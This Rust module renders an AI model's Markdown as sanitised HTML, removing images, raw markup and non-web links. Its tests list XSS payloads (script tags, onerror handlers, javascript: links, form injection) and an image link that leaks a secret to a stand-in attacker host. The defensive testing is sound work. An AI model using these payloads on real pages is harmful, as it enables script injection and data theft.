//! A model's Markdown as safe HTML: rendered whole, then sanitised. No images, because an image's
//! address can carry secrets out; links only to the web.

use std::collections::HashSet;
use std::sync::LazyLock;

use ammonia::{Builder, UrlRelative};
use pulldown_cmark::{Event, HeadingLevel, Options, Parser, Tag, TagEnd, html};

/// Longest text that is rendered, in bytes; what is longer is shown as plain text, cut.
const MAX_MARKDOWN_BYTES: usize = 200_000;

static SANITIZER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    const TAGS: [&str; 26] = [
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "s",
        "strong",
        "sub",
        "sup",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from(TAGS))
        .add_tag_attributes("a", ["href"])
        .add_tag_attributes("ol", ["start"])
        .url_schemes(HashSet::from(["http", "https"]))
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer"))
        .set_tag_attribute_value("a", "target", "_blank")
        // A wide block scrolls, and what scrolls must be reachable by keyboard.
        .set_tag_attribute_value("pre", "tabindex", "0");
    builder
});

/// HTML of `text` that may be put into a page as it is.
pub(super) fn render(text: &str) -> String {
    if text.len() > MAX_MARKDOWN_BYTES {
        let mut end = MAX_MARKDOWN_BYTES;
        while !text.is_char_boundary(end) {
            end -= 1;
        }
        let cut = ammonia::clean_text(&text[..end]);
        return format!("<pre>{cut}\n…</pre>");
    }
    let parser = Parser::new_ext(text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH);
    let mut unsafe_html = String::with_capacity(text.len() * 3 / 2);
    html::push_html(&mut unsafe_html, parser.map(tame));
    SANITIZER.clean(&unsafe_html).to_string()
}

/// Markup in the text is shown, not obeyed; headings stay below the page's own.
fn tame(event: Event<'_>) -> Event<'_> {
    match event {
        Event::Html(markup) | Event::InlineHtml(markup) => Event::Text(markup),
        Event::Start(Tag::Image { .. }) => Event::Text("[image: ".into()),
        Event::End(TagEnd::Image) => Event::Text("]".into()),
        Event::Start(Tag::Heading { level, .. }) => Event::Start(Tag::Heading {
            level: lower(level),
            id: None,
            classes: Vec::new(),
            attrs: Vec::new(),
        }),
        Event::End(TagEnd::Heading(level)) => Event::End(TagEnd::Heading(lower(level))),
        other => other,
    }
}

fn lower(level: HeadingLevel) -> HeadingLevel {
    HeadingLevel::try_from((level as usize + 2).min(6)).unwrap_or(HeadingLevel::H6)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn markdown_is_rendered() {
        let html = render("# Done\n\n- `a`\n- **b**\n\n|x|\n|-|\n|1|\n\n[pr](https://x/1)");
        for part in ["<h3>Done</h3>", "<li><code>a</code></li>", "<strong>b</strong>", "<td>1</td>"] {
            assert!(html.contains(part), "{part} is not in {html}");
        }
        assert!(
            html.contains(r#"<a href="https://x/1" target="_blank" rel="noopener noreferrer">pr</a>"#),
            "{html}"
        );
    }

    #[test]
    fn nothing_in_the_text_can_act_on_the_page() {
        let attacks = [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![x](https://evil.example/?q=secret)",
            "[x](javascript:alert(1))",
            "[x](data:text/html,hi)",
            "[x](/runs/1/cancel)",
            "<a href=\"https://x\" onclick=\"alert(1)\" style=\"position:fixed\">x</a>",
            "<style>*{display:none}</style>",
            "<form action=/runs><input name=text></form>",
        ];
        for attack in attacks {
            let html = render(attack).to_lowercase();
            for bad in [
                "<script",
                "<img",
                "href=\"javascript",
                "href=\"data",
                "href=\"/",
                "<style",
                "<form",
                "<input",
            ] {
                assert!(!html.contains(bad), "{attack} became {html}");
            }
        }
        assert!(render("![x](https://evil.example/)").contains("[image: x]"));
        assert!(render("a <b>bold</b> word").contains("&lt;b&gt;"));
    }

    proptest! {
        #[test]
        fn rendering_never_panics_and_never_lets_a_script_through(text in "\\PC{0,80}", tail in "(<script>|<img src=a>|\\[a\\]\\(javascript:b\\)|`|\\*|\n){0,6}") {
            let html = render(&format!("{text}{tail}"));
            prop_assert!(!html.contains("<script") && !html.contains("<img") && !html.contains("href=\"javascript"));
        }
    }
}
